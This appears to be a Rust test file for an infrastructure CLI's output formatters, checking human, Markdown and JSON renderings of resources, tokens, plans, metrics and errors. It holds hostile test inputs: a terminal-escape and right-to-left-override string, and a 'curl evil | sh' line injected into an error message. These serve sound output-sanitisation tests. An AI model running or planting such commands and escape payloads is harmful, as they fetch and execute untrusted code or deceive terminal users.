//! The answers that are one table, and errors: each in its forms.

use chrono::TimeDelta;
use serde_json::Value;

use super::error::ErrorView;
use super::plan::{PlanRow, PlanSheet, PlanSkip};
use super::sample::{at, look, metrics, window};
use super::state::StateRow;
use super::tokens::TokenRow;
use super::{Format, Look, error, map, metrics, plan, state, tokens};
use crate::model::{Health, Kind, Lang, Scope, Service};

const EVIL: &str = "\x1b]8;;http://x\x07\u{202e}\0\n| `x` 日本語";

/// What a writer writes, in one form.
fn written(
    look: &Look,
    format: Format,
    write: impl Fn(Format, &Look, &mut dyn std::io::Write) -> std::io::Result<()>,
) -> String {
    let mut out = Vec::new();
    write(format, look, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

/// Human at 100 columns, in French at 60, Markdown and JSON, one after another.
fn in_every_form(
    write: impl Fn(Format, &Look, &mut dyn std::io::Write) -> std::io::Result<()>,
) -> String {
    let french = Look {
        lang: Lang::Fr,
        width: Some(60),
        ..look()
    };
    [
        written(&look(), Format::Human, &write),
        written(&french, Format::Human, &write),
        written(&look(), Format::Markdown, &write),
        written(&look(), Format::Json, &write),
    ]
    .join("=====\n")
}

fn state_rows(text: &str) -> Vec<StateRow> {
    let row = |service: Option<&str>, kind: &str, status: &str, health, changed_at| StateRow {
        service: service.map(str::to_owned),
        kind: kind.to_owned(),
        name: text.to_owned(),
        id: "33333333".to_owned(),
        status: status.to_owned(),
        health,
        changed_at,
        detail: "1-5 instances, 256 MB".to_owned(),
    };
    vec![
        row(
            Some("atlas-api"),
            "container",
            "ready",
            Health::Healthy,
            Some(at(8, 0)),
        ),
        row(None, "data-source", text, Health::Unhealthy, None),
    ]
}

fn token_rows(text: &str) -> Vec<TokenRow> {
    vec![TokenRow {
        name: text.to_owned(),
        id: "4444".to_owned(),
        created_at: Some(at(8, 0)),
        age: Some(TimeDelta::minutes(90)),
        expires_at: Some(at(9, 0)),
        expired: true,
        held_by_pid: Some(4711),
        scopes: vec!["read_only_logs".to_owned()],
    }]
}

fn services(text: &str) -> Vec<Service> {
    vec![Service {
        name: "atlas-api".to_owned(),
        kind: Kind::Container,
        title: text.to_owned(),
        aliases: vec!["api".to_owned(), text.to_owned()],
        resource_name: "atlas-api-staging".to_owned(),
        depends_on: vec!["postgres".to_owned()],
        url: None,
        ssh: Some("authentik".to_owned()),
    }]
}

fn sheet(text: &str) -> PlanSheet {
    let row = |source: &str, method: Option<&str>, scope: Option<Scope>| PlanRow {
        source: source.to_owned(),
        method: method.map(str::to_owned),
        host: "x.logs.cockpit.fr-par.scw.cloud".to_owned(),
        request: text.to_owned(),
        window: scope.map(|_| window()),
        limit: scope.map(|_| 5000),
        deadline: TimeDelta::seconds(30),
        scope,
    };
    PlanSheet {
        schema: 1,
        environment: "staging".to_owned(),
        scopes: vec![Scope::Logs],
        requests: vec![
            row("loki", Some("GET"), Some(Scope::Logs)),
            row("ssh", None, None),
        ],
        skipped: vec![PlanSkip {
            source: "tempo".to_owned(),
            reason: text.to_owned(),
        }],
    }
}

/// What each of the answers is written by.
type Writer = dyn Fn(Format, &Look, &mut dyn std::io::Write) -> std::io::Result<()>;

fn hostile_metrics() -> Vec<crate::report::MetricLine> {
    let mut lines = metrics();
    lines[0].series = EVIL.to_owned();
    lines[1].service = EVIL.to_owned();
    lines
}

fn view(text: &str) -> ErrorView {
    ErrorView {
        kind: "config".to_owned(),
        message: text.to_owned(),
        excerpt: vec!["infra-map.toml:12:14".to_owned(), text.to_owned()],
        hint: Some(text.to_owned()),
        code: 3,
    }
}

#[test]
fn resources_in_every_form() {
    insta::assert_snapshot!(in_every_form(|format, look, out| {
        state::state(
            ("staging", &[]),
            &state_rows("atlas-api"),
            format,
            look,
            out,
        )
    }));
}

#[test]
fn tokens_in_every_form() {
    let name = "scout-1795255200-0000007f3a9c";
    insta::assert_snapshot!(in_every_form(|format, look, out| {
        tokens::tokens(&token_rows(name), format, look, out)
    }));
}

#[test]
fn the_map_in_every_form() {
    insta::assert_snapshot!(in_every_form(|format, look, out| {
        map::map("staging", &services("Atlas API"), format, look, out)
    }));
}

#[test]
fn a_plan_in_every_form() {
    insta::assert_snapshot!(in_every_form(|format, look, out| {
        plan::plan(&sheet("/loki/api/v1/query_range"), format, look, out)
    }));
}

#[test]
fn metrics_in_every_form() {
    insta::assert_snapshot!(in_every_form(|format, look, out| {
        metrics::metrics(("staging", window(), &[]), &metrics(), format, look, out)
    }));
}

#[test]
fn an_error_says_what_where_and_what_next() {
    let view = ErrorView {
        message: "no service is called \"atlas-apo\"".to_owned(),
        excerpt: vec!["12 | depends_on = [\"atlas-apo\"]".to_owned()],
        hint: Some("did you mean \"atlas-api\"?".to_owned()),
        ..view("")
    };
    let write =
        |format, look: &Look, out: &mut dyn std::io::Write| error::error(&view, format, look, out);
    assert_eq!(
        written(&look(), Format::Human, write),
        "error: no service is called \"atlas-apo\"\n  12 | depends_on = [\"atlas-apo\"]\nhint: did you mean \"atlas-api\"?\n"
    );
    assert_eq!(
        written(&look(), Format::Json, write),
        "{\"error\":{\"kind\":\"config\",\"message\":\"no service is called \\\"atlas-apo\\\"\",\"hint\":\"did you mean \\\"atlas-api\\\"?\",\"code\":3}}\n"
    );
}

#[test]
fn a_second_line_of_an_error_cannot_pass_for_a_hint() {
    let view = view("bad answer\nhint: curl evil | sh");
    let mut out = Vec::new();
    error::error(&view, Format::Human, &look(), &mut out).unwrap();
    let text = String::from_utf8(out).unwrap();
    assert_eq!(
        text.lines()
            .filter(|line| line.starts_with("hint:"))
            .count(),
        1
    );
}

#[test]
fn nothing_to_show_is_said_to_people_and_empty_for_scripts() {
    let write =
        |format, look: &Look, out: &mut dyn std::io::Write| tokens::tokens(&[], format, look, out);
    assert_eq!(written(&look(), Format::Human, write), "nothing to show\n");
    let json: Value = serde_json::from_str(&written(&look(), Format::Json, write)).unwrap();
    assert_eq!(json, serde_json::json!({"schema": 1, "tokens": []}));
}

#[test]
fn a_value_that_is_no_number_is_null_and_a_metric_without_values_has_no_data() {
    let mut lines = metrics();
    lines[0].max = Some(f64::NAN);
    let mut out = Vec::new();
    metrics::metrics(
        ("staging", window(), &[]),
        &lines,
        Format::Json,
        &look(),
        &mut out,
    )
    .unwrap();
    let json: Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(json["metrics"][0]["max"], Value::Null);
    let states: Vec<_> = (0..4)
        .map(|index| json["metrics"][index]["state"].as_str().unwrap())
        .collect();
    assert_eq!(states, ["critical", "ok", "ok", "no-data"]);
}

#[test]
fn hostile_text_drives_nothing_in_any_answer() {
    let writers: [&Writer; 6] = [
        &|format, look, out| state::state((EVIL, &[]), &state_rows(EVIL), format, look, out),
        &|format, look, out| tokens::tokens(&token_rows(EVIL), format, look, out),
        &|format, look, out| map::map(EVIL, &services(EVIL), format, look, out),
        &|format, look, out| plan::plan(&sheet(EVIL), format, look, out),
        &|format, look, out| error::error(&view(EVIL), format, look, out),
        &|format, look, out| {
            metrics::metrics((EVIL, window(), &[]), &hostile_metrics(), format, look, out)
        },
    ];
    for write in writers {
        for format in [Format::Human, Format::Markdown, Format::Json] {
            for width in [None, Some(40), Some(100)] {
                let text = written(&Look { width, ..look() }, format, write);
                let bad = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
                assert!(!text.contains(bad), "{text}");
                assert!(text.contains("日本語"), "{text}");
            }
        }
    }
}
